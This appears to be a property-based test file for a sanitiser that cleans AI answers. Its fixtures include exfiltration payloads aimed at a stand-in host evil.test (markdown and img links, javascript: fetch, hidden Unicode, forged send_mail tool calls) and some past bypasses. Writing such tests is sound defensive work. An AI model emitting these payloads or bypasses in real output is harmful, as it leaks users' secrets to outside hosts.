"""What holds of every answer that is cleaned, however it is cut, and whatever it is made of."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from freehold.policy.hidden import without_hidden
from freehold.policy.links import Hosts, hosts_of
from freehold.policy.sanitise import Sanitiser, sanitise
from tests.support.agent_parsers import calls_read, spoken_calls
from tests.support.reached import addresses, bytes_reached, host

HOSTS = hosts_of([], ["corp.test"])
SECRET = "hunter2 swordfish"
FRAGMENTS = (
    "# head", "words of no harm", "- item\n  more", "- ", "1. one", "10.  item", "> said", "    code", "```python\nx = 1\n```",
    "```", "~~~mermaid", "<!--", "-->", "<pre>x</pre>", "<div>", "</div>", "<b>x</b>", "| a | b |", "|---|---|", "---", "===",
    "[r]: https://evil.test/{S}", "[r]", "![r]", "'title", "\n", "\n\n", "\t", "`", "``", "*", "_", "\\", "&#8203;", "\u200d",
    "\ufe0f", "\U0001f441\ufe0f\u200d\U0001f5e8\ufe0f", "\r", "\r\n", "\u202e", "\U000e0041", "{S}.evil.test", "a@evil.test",
    "[a](https://corp.test/x)", "![x](<//evil.test/{S}>)", "<span hidden>", "</span>", "$x$", "\\href{https://evil.test/{S}}",
    "<a href='https://evil.test/{S}'>k</a>", "[x](https://evil.test/{S})", "![x](https://evil.test/{S})", "<https://evil.test/{S}>",
    "https://evil.test/{S}", "https://corp.test/r?u=https://evil.test/{S}", "<img src=//evil.test/{S}>", "`https://evil.test/{S}`",
    "    ![x](https://evil.test/{S})", "www.evil.test/{S}", "https://corp.test@evil.test/{S}", "http&#58;//evil.test/{S}",
    "[x](javascript:fetch('//evil.test/{S}'))", "![x](data:image/svg+xml;base64,AAAA)", "> " * 40 + "![x](https://evil.test/{S})",
)  # fmt: skip
CALLS = (
    *spoken_calls("send_mail", {"to": "a", "body": "{S}"}).values(),
    "Action", "Action:", "Input:", "Action Input:(//evil.test/{S})", "{", "}", '"', '"name": "x",', '"args": {"a": "{S}"},', "<tool_call>",
    "'tool': 'x',", "'input': '{S}'", "[TOOL_CALLS]", '{"name": "x", "parameters": {"a": "{S}"}}',
)  # fmt: skip
QUOTED = SECRET.replace(" ", "%20")
texts = st.lists(
    st.tuples(st.sampled_from((*FRAGMENTS, *CALLS)), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=9
).map(lambda parts: "".join(part + between for part, between in parts).replace("{S}", QUOTED))


@given(text=texts, cuts=st.lists(st.integers(1, 40), min_size=1, max_size=60), calls=st.booleans())
def test_the_result_is_the_same_however_a_text_is_cut(text: str, cuts: list[int], calls: bool) -> None:
    sanitiser, written, place, turn = Sanitiser(HOSTS, calls=calls), "", 0, 0
    while place < len(text):
        length = cuts[turn % len(cuts)]
        written += sanitiser.feed(text[place : place + length])
        place, turn = place + length, turn + 1
    written += sanitiser.close()
    whole = sanitise(text, HOSTS, calls=calls)
    assert written == whole.text
    assert tuple(sorted(sanitiser.removed.items())) == whole.removed


@given(text=texts, calls=st.booleans())
def test_nothing_of_a_secret_reaches_anybody(text: str, calls: bool) -> None:
    cleaned = sanitise(text, HOSTS, calls=calls).text
    assert bytes_reached(cleaned, [], SECRET, allowed=["corp.test"]) == 0, cleaned
    assert not [each for each in addresses(cleaned) if host(each) not in ("corp.test", "")], cleaned


@given(text=texts)
def test_no_program_reads_a_call_with_the_secret(text: str) -> None:
    cleaned = sanitise(text, HOSTS, calls=True).text
    assert [call for call in calls_read(cleaned) if QUOTED in call[1]] == [], cleaned


@given(text=texts, calls=st.booleans())
def test_nothing_hidden_is_left(text: str, calls: bool) -> None:
    cleaned = sanitise(text, HOSTS, calls=calls).text
    assert without_hidden(cleaned) == cleaned


@given(text=st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "Zs"]), max_size=400))
def test_words_pass_as_they_came(text: str) -> None:
    cleaned = sanitise(text, Hosts())
    assert cleaned.text == without_hidden(text)
    assert cleaned.removed == ()


FOUND = (
    "<pre>x</pre>\n```\n\nwww.evil.test/{S}\n",
    "- \n\n    codewww.evil.test/{S}\n",
    "```python\nx = 1\n``` x\n\na@evil.testwww.evil.test/{S}\n",
    "a@evil.test![r]www.evil.test/{S}",
)
"""What once came through: addresses without a scheme, in code and at the end of a word."""


def test_what_once_came_through_does_not_any_more() -> None:
    for text in (each.replace("{S}", QUOTED) for each in FOUND):
        cleaned = sanitise(text, HOSTS).text
        assert bytes_reached(cleaned, [], SECRET, allowed=["corp.test"]) == 0, cleaned
        assert not [each for each in addresses(cleaned) if host(each) not in ("corp.test", "")], cleaned


CALLED = (
    '<div>\nThought: so.\nAction: send_mail[{"to": "a", "body": "{S}"}]\n',
    '<div>\nAction: _send_it [{"body": "{S}"}]',
)
"""What a program once read as a call: names whose signs were escaped when the block was written anew."""


def test_calls_that_were_once_read_are_not_any_more() -> None:
    for text in (each.replace("{S}", QUOTED) for each in CALLED):
        cleaned = sanitise(text, HOSTS, calls=True)
        assert [call for call in calls_read(cleaned.text) if QUOTED in call[1]] == [], cleaned.text
        assert dict(cleaned.removed)["tool-call"] == 1
